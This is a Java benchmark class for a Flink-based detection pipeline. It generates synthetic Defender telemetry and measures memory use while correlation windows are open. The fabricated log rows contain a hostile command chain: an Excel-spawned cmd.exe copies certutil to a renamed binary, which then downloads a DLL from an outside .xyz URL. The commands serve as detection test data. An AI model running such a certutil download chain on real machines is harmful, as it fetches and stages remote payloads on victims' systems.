package dev.bazahunt.job.bench;

import dev.bazahunt.job.pipeline.TelemetryCollector;
import dev.bazahunt.job.pipeline.TelemetryRecord;
import dev.bazahunt.telemetry.DefenderRecordParser;
import dev.bazahunt.telemetry.DefenderTimestamps;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.concurrent.CountDownLatch;
import org.apache.flink.api.common.functions.OpenContext;
import org.apache.flink.api.common.functions.RichFlatMapFunction;
import org.apache.flink.util.Collector;

/**
 * Turns a number sequence into the state probe's telemetry: for each of {@code devices} devices an
 * Excel child and, 30 s later, a renamed-certutil download, all within the first minutes of the day,
 * so every device holds an open correlation window. Then it pauses twice, so the probe can weigh the
 * heap: once with all windows open, and once after a row two hours later has moved event time past
 * every window. The latches are static because the probe runs the job in its own JVM's MiniCluster.
 */
final class OpenWindowTelemetry extends RichFlatMapFunction<Long, TelemetryRecord> {
    private static final long serialVersionUID = 1L;
    static final long START = Instant.parse("2021-07-20T08:00:00Z").getEpochSecond() * 1_000_000_000L;

    static volatile CountDownLatch windowsOpen;
    static volatile CountDownLatch weighedOpen;
    static volatile CountDownLatch windowsClosed;
    static volatile CountDownLatch weighedClosed;

    private final long devices;
    private transient DefenderRecordParser parser;
    private transient TelemetryCollector collector;

    OpenWindowTelemetry(long devices) {
        this.devices = devices;
    }

    /** The sequence this function expects: two rows per device, then the two pauses and the clock row. */
    static long sequenceEnd(long devices) {
        return 2 * devices + 2;
    }

    @Override
    public void open(OpenContext openContext) {
        parser = new DefenderRecordParser();
        collector = new TelemetryCollector();
    }

    @Override
    public void flatMap(Long index, Collector<TelemetryRecord> out) throws InterruptedException {
        collector.from(out, letter -> {});
        long device = index / 2;
        if (device < devices) {
            long at = START + device * 1_000_000L;
            String row = index % 2 == 0 ? excelChild(device, at) : download(device, at + 30_000_000_000L);
            parser.parse(row.getBytes(StandardCharsets.UTF_8), collector);
        } else if (index == 2 * devices) {
            windowsOpen.countDown();
            weighedOpen.await();
            // Two hours later: event time passes every window, CEP prunes and the alert timers fire.
            parser.parse(excelChild(-1, START + 2 * 3600 * 1_000_000_000L).getBytes(StandardCharsets.UTF_8), collector);
        } else {
            windowsClosed.countDown();
            weighedClosed.await();
        }
    }

    private static String excelChild(long device, long at) {
        return "{\"Type\":\"DeviceProcessEvents\",\"Timestamp\":\"" + DefenderTimestamps.format(at)
                + "\",\"DeviceId\":\"" + deviceId(device) + "\",\"DeviceName\":\"wks-" + device + ".contoso.local\","
                + "\"ActionType\":\"ProcessCreated\",\"FileName\":\"cmd.exe\",\"ProcessId\":6640,"
                + "\"ProcessCreationTime\":\"" + DefenderTimestamps.format(at) + "\","
                + "\"ProcessCommandLine\":\"cmd.exe /c mkdir C:\\\\Users\\\\Public\\\\x8k2 && copy "
                + "C:\\\\Windows\\\\System32\\\\certutil.exe C:\\\\Users\\\\Public\\\\x8k2\\\\x8k2.exe\","
                + "\"InitiatingProcessFileName\":\"EXCEL.EXE\",\"InitiatingProcessId\":5120,"
                + "\"InitiatingProcessCreationTime\":\"" + DefenderTimestamps.format(at - 60_000_000_000L) + "\","
                + "\"ReportId\":" + (2 * device + 1) + "}";
    }

    private static String download(long device, long at) {
        return "{\"Type\":\"DeviceFileEvents\",\"Timestamp\":\"" + DefenderTimestamps.format(at)
                + "\",\"DeviceId\":\"" + deviceId(device) + "\",\"DeviceName\":\"wks-" + device + ".contoso.local\","
                + "\"ActionType\":\"FileCreated\",\"FileName\":\"tmp1834.dll\","
                + "\"FolderPath\":\"C:\\\\Users\\\\Public\\\\x8k2\\\\tmp1834.dll\","
                + "\"InitiatingProcessFileName\":\"x8k2.exe\",\"InitiatingProcessId\":7212,"
                + "\"InitiatingProcessCreationTime\":\"" + DefenderTimestamps.format(at - 1_000_000_000L) + "\","
                + "\"InitiatingProcessCommandLine\":\"x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/a.php "
                + "C:\\\\Users\\\\Public\\\\x8k2\\\\tmp1834.dll\",\"InitiatingProcessParentFileName\":\"cmd.exe\","
                + "\"ReportId\":" + (2 * device + 2) + "}";
    }

    private static String deviceId(long device) {
        return String.format("%040x", device + 1);
    }
}
